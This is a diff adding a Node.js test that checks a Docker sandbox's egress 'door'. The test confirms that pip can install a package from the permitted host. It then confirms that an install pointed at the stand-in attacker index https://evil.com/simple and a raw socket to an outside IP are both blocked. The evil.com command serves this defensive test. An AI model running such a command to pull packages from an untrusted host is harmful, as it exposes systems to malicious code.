@@ -1,0 +1,37 @@
+import assert from 'node:assert/strict';
+import { cpSync } from 'node:fs';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import { dockerExecutor } from '../../../src/adapters/executors/docker/docker.ts';
+import { dockerHouse, inside } from '../executors/docker/docker-house.ts';
+import { packageWorld } from './door-world.ts';
+
+const house = await dockerHouse();
+
+test('given a container with the door, when a package is installed by pip’s protocol, then the next command has it, and nothing else is reached', {
+  skip: house.skip,
+}, async t => {
+  const here = await packageWorld(t);
+  cpSync(join(import.meta.dirname, 'package-client.py'), join(house.options.workspace, 'client.py'));
+  const executor = dockerExecutor({
+    ...house.options,
+    mounts: [...here.door.mounts, { source: here.ca, target: '/run/ca.pem' }],
+  });
+  t.after(executor.close);
+  here.door.admit(executor.user);
+  const installed = await inside(executor, 'PIP_CERT=/run/ca.pem python3 client.py greeting');
+  assert.equal(installed.stdout, 'Successfully installed greeting\n', installed.stderr);
+  const used = await inside(executor, 'python3 -c "import greeting; print(greeting.say())"');
+  assert.equal(used.stdout, 'hello from a wheel\n', used.stderr);
+  const elsewhere = await inside(
+    executor,
+    'PIP_CERT=/run/ca.pem PIP_INDEX_URL=https://evil.com/simple python3 client.py greeting',
+  );
+  assert.match(elsewhere.stderr, /403 evil\.com is not one of the package hosts/);
+  const past = await inside(
+    executor,
+    'python3 -c "import socket; socket.create_connection((\'151.101.0.223\', 443), 2)"',
+  );
+  assert.match(past.stderr, /unreachable/);
+  assert.equal(here.world.connected.length, 2);
+});
